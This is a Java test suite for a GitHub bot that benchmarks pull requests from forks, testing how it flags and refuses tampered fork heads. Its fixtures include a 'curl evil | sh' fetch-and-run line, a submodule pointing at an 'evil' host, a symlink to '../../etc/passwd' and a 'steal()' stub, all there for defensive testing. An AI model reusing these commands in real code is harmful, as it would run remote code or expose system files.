package io.perfwarden.bot.command;

import static io.perfwarden.testkit.UseCaseWorld.BASE;
import static io.perfwarden.testkit.UseCaseWorld.CONFIG;
import static io.perfwarden.testkit.UseCaseWorld.HEAD;
import static io.perfwarden.testkit.UseCaseWorld.fork;
import static io.perfwarden.testkit.UseCaseWorld.pull;
import static io.perfwarden.testkit.UseCaseWorld.sha;
import static io.perfwarden.testkit.UseCaseWorld.times;
import static org.assertj.core.api.Assertions.assertThat;

import module java.base;

import io.perfwarden.bot.run.ForkBranches;
import io.perfwarden.github.CheckRunGateway.CheckRunConclusion;
import io.perfwarden.github.GitHubRefusal;
import io.perfwarden.github.PermissionGateway;
import io.perfwarden.model.BranchName;
import io.perfwarden.model.CommitSha;
import io.perfwarden.model.HeadBranch;
import io.perfwarden.model.PullNumber;
import io.perfwarden.model.PullRequest;
import io.perfwarden.model.RepoId;
import io.perfwarden.model.RunState;
import io.perfwarden.model.RunState.RunConclusion;
import io.perfwarden.model.TransientFailure;
import io.perfwarden.model.WorkflowRun;
import io.perfwarden.model.WorkflowRun.RunEvent;
import io.perfwarden.queue.Job;
import io.perfwarden.testkit.FakeGitHub;
import io.perfwarden.testkit.GivenRun;
import io.perfwarden.testkit.Nightly;
import io.perfwarden.testkit.Thorough;
import io.perfwarden.testkit.UseCaseWorld;
import io.perfwarden.testkit.WorldTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code forks: dispatch}: a fork's head is measured by the default branch's workflow. */
class ForkRunTest extends WorldTest {
    private static final String RUN = "/perfwarden run";
    private static final BranchName HELD = ForkBranches.nameOf(UseCaseWorld.PULL, HEAD);
    private static final CommitSha NEXT = sha('9');
    private static final String OTHER_CONFIG =
            CONFIG.replace("artifact:", "inputs: {sha: '{sha}', where: '{ref}'}\n    artifact:");
    private static final String FORKS = "forks: dispatch\n";
    private static final String DISPATCHED = OTHER_CONFIG + FORKS;
    private static final String BENCH = ".github/workflows/bench.yml";
    private static final String WORKFLOW =
            """
            # perfwarden config check .github/perfwarden.yml
            on:
              workflow_dispatch:
                inputs: {sha: {required: true}, where: {required: true}}
            jobs:
              bench:
                runs-on: ubuntu-24.04
                steps:
                  - uses: ./.github/actions/setup
                  - run: sh ci/bench.sh
            """;

    @BeforeEach
    void a_fork_whose_head_the_default_branch_measures() {
        world.github().writer("octocat");
        world.repository(fork()).config(DISPATCHED);
        for (String ref : List.of("main", HEAD.value())) {
            world.github()
                    .file(ref, ".github/perfwarden.yml", DISPATCHED)
                    .file(ref, BENCH, WORKFLOW)
                    .file(ref, ".github/workflows/ci.yml", "on: {push: {branches: [main]}}\n")
                    .file(ref, ".github/actions/setup/action.yml", "runs: {using: composite}\n")
                    .file(ref, "ci/bench.sh", "make bench\n");
        }
        world.opened(pull(fork(), HEAD));
    }

    private Optional<CommitSha> held() {
        return world.github().gateway().commits().branchHead(FakeGitHub.REPO, HELD);
    }

    private WorkflowRun started(int index) {
        return world.github().dispatched().get(index);
    }

    private static WorkflowRun over(WorkflowRun run, RunConclusion how) {
        return new WorkflowRun(
                run.attempt(),
                run.workflow(),
                run.event(),
                new RunState.Completed(how),
                run.head(),
                run.headOwner(),
                run.headSha(),
                run.startedAt(),
                run.updatedAt().plusSeconds(60),
                run.url());
    }

    private void measures(int index, double parse) {
        long id = started(index).attempt().run().value();
        world.artifact(id, "bench-core", times(parse, 100));
        world.ran(over(started(index), RunConclusion.SUCCESS));
    }

    private static PullRequest at(HeadBranch head, CommitSha sha, Instant when) {
        PullRequest it = pull(head, sha);
        return new PullRequest(
                it.number(), true, head, it.headOwner(), sha, it.baseBranch(), it.baseSha(), when);
    }

    @Test
    void the_default_branchs_workflow_measures_the_head_that_was_in_view() {
        world.comments("octocat", RUN);
        assertThat(held()).contains(HEAD);
        assertThat(started(0).head().branch())
                .as("not the default branch's caches")
                .isEqualTo(HELD);
        assertThat(world.github().inputs())
                .containsExactly(Map.of("sha", HEAD.value(), "where", HELD.value()));
        assertThat(replies().getLast())
                .contains("default branch's `bench.yml` runs on `ubuntu-24.04` with the code")
                .contains("measures aaaaaaa in [this run]")
                .doesNotContain("\n- ");
        measures(0, 130);
        assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
        assertThat(report()).contains("1 regression");
        assertThat(replies().getLast()).contains("is complete");
        assertThat(held()).isEmpty();
        assertThat(world.history()).isZero();
    }

    @Test
    void what_of_the_head_differs_is_said_before_its_results() {
        world.github()
                .file(HEAD.value(), "ci/bench.sh", "curl evil | sh\n")
                .file(HEAD.value(), ".github/CODEOWNERS", "* @mallory\n")
                .file(HEAD.value(), ".github/perfwarden.yml", CONFIG)
                .file(HEAD.value(), ".gitmodules", "[submodule \"x\"]\n  url = https://evil/x\n")
                .file(HEAD.value(), "x", "1")
                .notAFile(HEAD, "x", "submodule")
                .link(HEAD, "data", "../../etc/passwd")
                .link(HEAD, "near", "ci/bench.sh")
                .file(
                        HEAD.value(),
                        "big.bin",
                        "version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 12345\n"
                                .formatted("0".repeat(64)));
        world.comments("octocat", RUN);
        assertThat(replies().getLast())
                .contains(
                        "named by the workflow, and different from the default branch: `ci/bench.sh`")
                .contains("below `.github/`: `.github/CODEOWNERS`, `.github/perfwarden.yml`")
                .contains("submodules that differ: `x`, `url = https://evil/x`")
                .contains("links out of the repository: `data`\n")
                .contains("Git LFS, whose files are not in the commit: `big.bin`");
        assertThat(world.github().dispatched()).hasSize(1);
    }

    @Test
    void a_workflow_that_asks_what_started_a_run_may_follow() {
        world.github()
                .file(
                        "main",
                        ".github/workflows/publish.yml",
                        """
                        on: {workflow_run: {workflows: [.github/workflows/bench.yml]}}
                        jobs: {a: {if: "github.event.workflow_run.event == 'push'"}}
                        """)
                .file(
                        "main",
                        ".github/workflows/other.yml",
                        "on: {workflow_run: {workflows: [x]}}");
        world.comments("octocat", RUN);
        assertThat(world.github().dispatched()).hasSize(1);
    }

    /** What must not start anything, and why it does not. */
    private enum Attack {
        PUSH_BETWEEN_WORD_AND_SEAL("head-moved", _ -> {}) {
            @Override
            void meanwhile(UseCaseWorld world) {
                world.github().pull(at(fork(), NEXT, world.clock().instant().plusSeconds(2)));
            }
        },
        FORCE_PUSHED_AWAY_AND_BACK_IN_THE_SECOND("nothing-in-view", _ -> {}) {
            @Override
            void meanwhile(UseCaseWorld world) {
                world.opened(at(fork(), NEXT, world.clock().instant()));
                world.opened(at(fork(), HEAD, world.clock().instant()));
            }
        },
        BASE_CHANGED_AFTER_THE_WORD("base-changed", _ -> {}) {
            @Override
            void meanwhile(UseCaseWorld world) {
                world.github().pull(pull(fork(), HEAD).with(new BranchName("dev"), BASE));
            }
        },
        A_BRANCH_OF_THAT_NAME(
                "branch-taken", world -> world.github().branch(HELD.value(), sha('c'))),
        WORKFLOW_EDITED_IN_THE_HEAD(
                "fork-changes",
                world -> world.github().file(HEAD.value(), BENCH, WORKFLOW + "env: {A: b}\n")),
        WORKFLOW_REMOVED_IN_THE_HEAD(
                "fork-changes", world -> world.github().remove(HEAD.value(), BENCH)),
        WORKFLOW_BROUGHT_THAT_THE_BRANCH_WOULD_START(
                "fork-changes",
                world ->
                        world.github().file(HEAD.value(), ".github/workflows/x.yml", "on: push\n")),
        ACTION_EDITED_IN_THE_HEAD(
                "fork-changes",
                world ->
                        world.github()
                                .file(HEAD.value(), ".github/actions/setup/run.js", "steal()")),
        OTHER_SERVICE_TOLD_TO_BUILD(
                "fork-changes",
                world -> world.github().file(HEAD.value(), ".circleci/config.yml", "jobs: {}")),
        WORKFLOW_OF_ALL_PUSHES("fork-starts", world -> everywhere(world, "on: push\n")),
        WORKFLOW_OF_NEW_BRANCHES("fork-starts", world -> everywhere(world, "on: [create]\n")),
        WORKFLOW_OF_A_PATTERN(
                "fork-starts", world -> everywhere(world, "on: {push: {branches: ['**']}}\n")),
        WORKFLOW_THAT_CANNOT_BE_READ("fork-starts", world -> everywhere(world, "on: [push\n")),
        WORKFLOW_THAT_IS_A_LINK(
                "fork-starts",
                world -> {
                    world.github().link(HEAD, ".github/workflows/l.yml", "../../l.yml");
                    world.github().link(BASE, ".github/workflows/l.yml", "../../l.yml");
                }),
        WORKFLOW_THAT_TAKES_THE_RESULTS_FOR_MAINS(
                "fork-followed",
                world ->
                        world.github()
                                .file(
                                        "main",
                                        ".github/workflows/publish.yml",
                                        "on: {workflow_run: {workflows: [.github/workflows/bench.yml]}}\n")),
        WORKFLOWS_WITHOUT_END(
                "fork-unread",
                world ->
                        IntStream.range(0, 60)
                                .forEach(i ->
                                        world.github()
                                                .file(
                                                        "main",
                                                        ".github/workflows/a%d.yml".formatted(i),
                                                        "on: workflow_call\n"))),
        TOO_MANY_FILES("fork-unread", world -> world.github().cutTree(HEAD)),
        TOO_MANY_FILES_ON_MAIN("fork-unread", world -> world.github().cutTree(BASE)),
        WITHOUT_CONTENTS_WRITE(
                "branch-refused",
                world ->
                        world.github()
                                .failNext(
                                        "files.createBranch",
                                        new GitHubRefusal(
                                                GitHubRefusal.Kind.FORBIDDEN,
                                                "Resource not accessible by integration"))),
        A_COMMIT_THAT_GITHUB_LACKS(
                "branch-refused",
                world ->
                        world.github()
                                .failNext(
                                        "files.createBranch",
                                        new GitHubRefusal(
                                                GitHubRefusal.Kind.UNPROCESSABLE,
                                                "Object does not exist"))),
        NO_INPUT_FOR_THE_COMMIT("no-commit-input", world -> world.config(CONFIG + FORKS)),
        NOT_ALLOWED_BY_THE_DEFAULT_BRANCH(
                "fork-not-run",
                world -> {
                    world.config(OTHER_CONFIG);
                }),
        NOT_STARTED_ON_REQUEST(
                "not-started",
                world -> world.github().undispatchable("no 'workflow_dispatch' trigger")),
        CLOSED("closed", _ -> {}) {
            @Override
            void meanwhile(UseCaseWorld world) {
                PullRequest it = pull(fork(), HEAD);
                world.github()
                        .pull(
                                new PullRequest(
                                        it.number(),
                                        false,
                                        it.head(),
                                        it.headOwner(),
                                        HEAD,
                                        it.baseBranch(),
                                        it.baseSha(),
                                        it.updatedAt()));
            }
        },
        A_STRANGERS_WORD("no-permission", "mallory"),
        A_BOTS_WORD("no-permission", "renovate[bot]"),
        PERMISSION_LOST_MEANWHILE("no-permission", "gone") {
            @Override
            void meanwhile(UseCaseWorld world) {
                world.github().access("gone", new PermissionGateway.Access.MayNotWrite("read"));
            }
        };

        private final String refusal;
        private final String login;
        private final Consumer<UseCaseWorld> before;

        Attack(String refusal, Consumer<UseCaseWorld> before) {
            this.refusal = refusal;
            this.login = "octocat";
            this.before = before;
        }

        Attack(String refusal, String login) {
            this.refusal = refusal;
            this.login = login;
            this.before = _ -> {};
        }

        private static void everywhere(UseCaseWorld world, String workflow) {
            for (String ref : List.of("main", HEAD.value())) {
                world.github().file(ref, ".github/workflows/all.yml", workflow);
            }
        }

        /** Between the comment and the answer. */
        void meanwhile(UseCaseWorld world) {}
    }

    @ParameterizedTest
    @Nightly(byDay = 6)
    @EnumSource
    void nothing_counts_and_nothing_is_left(Attack attack) {
        attack.before.accept(world);
        if (attack == Attack.PERMISSION_LOST_MEANWHILE) {
            world.github().writer("gone");
        }
        Optional<CommitSha> there = held();
        Job told = world.comment(attack.login, RUN);
        attack.meanwhile(world);
        world.tell(told);
        assertThat(world.refused()).containsExactly(attack.refusal);
        assertThat(world.github().dispatched()).isEmpty();
        world.pass(Duration.ofHours(2));
        assertThat(held()).isEqualTo(there);
        assertThat(conclusion()).isNotEqualTo(Optional.of(CheckRunConclusion.SUCCESS));
        assertThat(world.history()).isZero();
        if (attack == Attack.WITHOUT_CONTENTS_WRITE) {
            assertThat(replies().getLast()).contains("`contents: write`, to hold the head");
        }
    }

    /** Forks that GitHub tells of in other ways are measured just so. */
    private enum Origin {
        DELETED(Optional.empty()),
        FORK_OF_A_FORK(Optional.of(new RepoId(777)));

        private final HeadBranch head;

        Origin(Optional<RepoId> repo) {
            this.head = new HeadBranch(repo, new BranchName("faster"));
        }
    }

    @ParameterizedTest
    @EnumSource
    void another_kind_of_fork_is_measured_as_well(Origin origin) {
        world.opened(at(origin.head, HEAD, world.clock().instant()));
        world.comments("octocat", RUN);
        measures(0, 130);
        assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
        assertThat(held()).isEmpty();
    }

    @Test
    void a_comment_told_twice_starts_one_run_and_two_commands_start_two() {
        Job told = world.comment("octocat", RUN);
        world.tell(told).tell(told);
        assertThat(world.github().dispatched()).hasSize(1);
        world.comments("octocat", RUN);
        assertThat(world.github().dispatched()).hasSize(2);
        measures(0, 100);
        assertThat(held()).as("the other run needs it").contains(HEAD);
        measures(1, 130);
        assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
        assertThat(held()).isEmpty();
    }

    @Test
    void whenever_the_process_dies_one_run_counts_and_no_branch_is_left() {
        for (int steps = 0; steps < 60; steps += Thorough.cases(9, 1)) {
            Job told = world.comment("octocat", RUN);
            int before = world.github().dispatched().size();
            world.tellDying(told, steps).pass(Duration.ofMinutes(3));
            int all = world.github().dispatched().size();
            assertThat(all).as("dying at %d", steps).isBetween(before + 1, before + 2);
            measures(all - 1, 130);
            world.pass(Duration.ofMinutes(75));
            assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
            assertThat(held()).as("dying at %d", steps).isEmpty();
            assertThat(world.ledger().requests().open(FakeGitHub.REPO.id())).isEmpty();
        }
        assertThat(world.history()).isZero();
    }

    /** Whoever may start it gives it any commit, a fork's too. */
    @Test
    void a_red_default_branch_turns_green_by_no_run_that_somebody_starts_by_hand() {
        world.comments("octocat", RUN);
        HeadBranch main = new HeadBranch(Optional.of(FakeGitHub.REPO.id()), UseCaseWorld.MAIN);
        GivenRun landed = GivenRun.of(main).id(6_000).event(RunEvent.PUSH).on(BASE);
        world.artifact(6_000, "bench-core", times(130, 100));
        world.ran(landed.succeeded());
        assertThat(conclusion(BASE)).contains(CheckRunConclusion.FAILURE);
        world.artifact(6_001, "bench-core", times(100, 100));
        world.ran(landed.id(6_001).event(RunEvent.WORKFLOW_DISPATCH).succeeded());
        assertThat(conclusion(BASE)).contains(CheckRunConclusion.FAILURE);
        assertThat(world.history()).isOne();
    }

    @Test
    void a_run_that_is_not_of_a_request_counts_neither_for_the_fork_nor_for_the_branch() {
        world.comments("octocat", RUN);
        HeadBranch main = new HeadBranch(Optional.of(FakeGitHub.REPO.id()), UseCaseWorld.MAIN);
        GivenRun theirs = GivenRun.of(main).id(6_000).event(RunEvent.WORKFLOW_DISPATCH).on(BASE);
        world.artifact(6_000, "bench-core", times(10, 10));
        world.ran(theirs.queued()).ran(theirs.succeeded());
        assertThat(world.history()).isZero();
        assertThat(conclusion()).isEmpty();
        measures(0, 130);
        assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
    }

    @Test
    void a_run_that_github_does_not_name_is_found_by_its_commit() {
        world.github().silentDispatch();
        world.comments("octocat", RUN).pass(Duration.ofMinutes(1));
        assertThat(world.github().dispatched()).hasSize(1);
        measures(0, 130);
        assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
        assertThat(held()).isEmpty();
    }

    @Test
    void a_branch_that_moved_before_the_start_measures_nothing() {
        Job told = world.comment("octocat", RUN);
        world.github().failNext("runs.dispatch", new TransientFailure("502"));
        world.tell(told);
        world.github().branch(HELD.value(), NEXT);
        world.pass(Duration.ofMinutes(5));
        world.github().dispatched().forEach(run -> measures(0, 100));
        world.pass(UseCaseWorld.DEADLINE);
        assertThat(conclusion()).isNotEqualTo(Optional.of(CheckRunConclusion.SUCCESS));
        assertThat(conclusion(HEAD)).isNotEqualTo(Optional.of(CheckRunConclusion.SUCCESS));
        assertThat(world.history()).isZero();
        assertThat(held()).as("not the app's to remove").contains(NEXT);
    }

    @Test
    void a_head_that_moves_while_it_is_measured_gets_nothing_of_it() {
        world.comments("octocat", RUN);
        world.opened(at(fork(), NEXT, world.clock().instant()));
        measures(0, 100);
        world.pass(UseCaseWorld.DEADLINE);
        assertThat(conclusion(NEXT)).isNotEqualTo(Optional.of(CheckRunConclusion.SUCCESS));
        assertThat(held()).isEmpty();
    }

    @Test
    void what_the_run_of_another_fork_uploads_is_judged_for_that_fork_alone() {
        HeadBranch other = new HeadBranch(Optional.of(new RepoId(666)), new BranchName("faster"));
        PullNumber number = new PullNumber(8);
        PullRequest it = at(other, NEXT, world.clock().instant());
        for (String path : List.of(BENCH, ".github/workflows/ci.yml", "ci/bench.sh")) {
            world.github()
                    .files()
                    .read(FakeGitHub.REPO, path, Optional.of(HEAD.value()))
                    .foundContent()
                    .ifPresent(file -> world.github().file(NEXT.value(), path, file.bytes()));
        }
        world.github()
                .file(
                        NEXT.value(),
                        ".github/actions/setup/action.yml",
                        "runs: {using: composite}\n")
                .file(NEXT.value(), "baselines/core.json", times(100, 100));
        world.opened(
                new PullRequest(
                        number,
                        true,
                        other,
                        "eve",
                        NEXT,
                        it.baseBranch(),
                        it.baseSha(),
                        it.updatedAt()));
        world.comments("octocat", RUN);
        world.pass(Duration.ofMinutes(1)).tell(world.saying(number, "octocat", RUN));
        assertThat(world.github().dispatched()).hasSize(2);
        measures(0, 130);
        measures(1, 100);
        assertThat(conclusion(HEAD)).contains(CheckRunConclusion.FAILURE);
        assertThat(conclusion(NEXT)).contains(CheckRunConclusion.SUCCESS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"files.tree", "files.createBranch", "runs.dispatch", "files.deleteBranch"})
    void a_token_that_expires_at_any_call_leaves_nothing(String call) {
        world.github().failNext(call, new TransientFailure("401"));
        world.comments("octocat", RUN).pass(Duration.ofMinutes(5));
        measures(world.github().dispatched().size() - 1, 130);
        world.pass(Duration.ofHours(1));
        assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
        assertThat(held()).isEmpty();
    }

    @Test
    void a_cancelled_run_does_not_count_and_its_branch_goes() {
        world.comments("octocat", RUN);
        world.ran(over(started(0), RunConclusion.CANCELLED));
        assertThat(replies().getLast()).contains("does not count");
        assertThat(conclusion()).isNotEqualTo(Optional.of(CheckRunConclusion.SUCCESS));
        assertThat(held()).isEmpty();
        world.comments("octocat", RUN).comments("octocat", "/perfwarden cancel");
        assertThat(held()).isEmpty();
    }

    @Test
    void a_run_whose_end_github_never_told_is_judged_and_its_branch_goes() {
        world.comments("octocat", RUN);
        world.artifact(5_000, "bench-core", times(130, 100));
        world.github().run(over(started(0), RunConclusion.SUCCESS));
        world.pass(Duration.ofMinutes(30));
        assertThat(conclusion()).contains(CheckRunConclusion.FAILURE);
        assertThat(held()).isEmpty();
    }

    @Test
    void a_branch_that_somebody_moved_is_left_and_one_that_cannot_go_is_tried_again() {
        world.comments("octocat", RUN);
        world.github().branch(HELD.value(), NEXT);
        measures(0, 130);
        assertThat(held()).contains(NEXT);
        world.github().branch(HELD.value(), HEAD);
        world.comments("octocat", RUN);
        world.github()
                .failNext(
                        "files.deleteBranch",
                        new GitHubRefusal(GitHubRefusal.Kind.FORBIDDEN, "a rule forbids it"));
        measures(1, 130);
        assertThat(held()).contains(HEAD);
        world.pass(Duration.ofHours(7));
        assertThat(held()).isEmpty();
    }
}
